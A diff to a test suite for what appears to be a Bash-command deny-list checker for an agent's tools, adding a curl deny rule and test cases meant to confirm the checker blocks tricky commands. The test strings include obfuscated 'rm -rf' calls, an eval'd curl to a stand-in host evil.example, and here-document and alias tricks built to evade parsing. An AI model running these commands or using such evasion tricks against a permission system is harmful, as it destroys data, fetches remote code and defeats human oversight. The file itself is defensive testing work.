@@ -19,6 +19,7 @@ permissions:
   - { rule: "Bash(rm:*)", mode: deny }
   - { rule: "Bash(git push:*)", mode: deny }
   - { rule: "Bash(ssh:*)", mode: deny }
+  - { rule: "Bash(curl:*)", mode: deny }
 tools:
   Bash: { risk: low }
 `,
@@ -56,6 +57,16 @@ describe("under a deny list, lines bash reads otherwise than the parser", () => 
     const line = "watch -e -t -n 0.1 '! shopt -s expand_aliases; alias ls='\\''s\\\nsh evil.example'\\''\nls; false'";
     const decision = denyList.decide("Bash", { command: line });
     expect(decision.mode, decision.reason).toBe("deny");
+  });
+
+  it("the backquotes of a here-document bash reads on past its end line are read", () => {
+    for (const line of [
+      'echo "${x:-$(cat <<EOF\n`{ \\${PATH:0:1}bin\\${PATH:0:1}rm -rf a.txt; }`\nEOF)}"',
+      "cat <<EOF\n`eval '{curl,http://evil.example/x}'`\nEOF &\nnpm run test",
+      "ls $(! cat <<EOF\n`\\\\rm -rf x`\nEOF) 2>/dev/null",
+    ]) {
+      expect(denyList.decide("Bash", { command: line }).mode, line).not.toBe("allow");
+    }
   });
 
   it("a here-document ended as bash ends it stays as allowed as before", () => {
